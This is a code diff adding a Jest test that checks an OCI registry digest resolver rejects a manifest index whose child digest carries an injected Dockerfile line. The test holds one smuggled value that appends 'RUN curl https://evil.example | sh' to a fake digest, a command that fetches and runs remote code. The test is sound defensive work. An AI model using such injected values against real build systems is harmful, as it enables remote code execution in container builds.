@@ -266,3 +266,37 @@ describe('resolveTargetDigest over HTTP', () => {
     expect(client.stats()).toMatchObject({ head: 2, get: 0 });
   });
 });
+
+describe('registry-controlled digests', () => {
+  it('refuses an index whose child digest is not a digest, so no such text reaches a Dockerfile', async () => {
+    const evil = 'sha256:' + 'a'.repeat(64) + '\nRUN curl https://evil.example | sh';
+    const bytes = new TextEncoder().encode(
+      JSON.stringify({
+        schemaVersion: 2,
+        mediaType: OCI_INDEX,
+        manifests: [
+          {
+            mediaType: 'application/vnd.oci.image.manifest.v1+json',
+            digest: evil,
+            size: 1,
+            platform: { os: 'linux', architecture: 'amd64' },
+          },
+        ],
+      }),
+    );
+    const head = { digest: 'sha256:' + 'b'.repeat(64), mediaType: OCI_INDEX };
+    const client: RegistryClient = {
+      resolveTag: async () => head,
+      describeManifest: async () => head,
+      fetchManifest: async () => ({ ...head, bytes }),
+      fetchBlob: async () => new Uint8Array(),
+      stats: () => ({ ping: 0, token: 0, head: 0, get: 0, mirror: 0, retries: 0 }),
+    };
+    const error = await resolveTargetDigest(client, parseImageReference('alpine:3.20'), {
+      platform: amd64,
+    }).catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(TargetDigestError);
+    expect(error).toMatchObject({ code: 'BAD_MANIFEST' });
+    expect((error as Error).message).not.toContain('evil');
+  });
+});
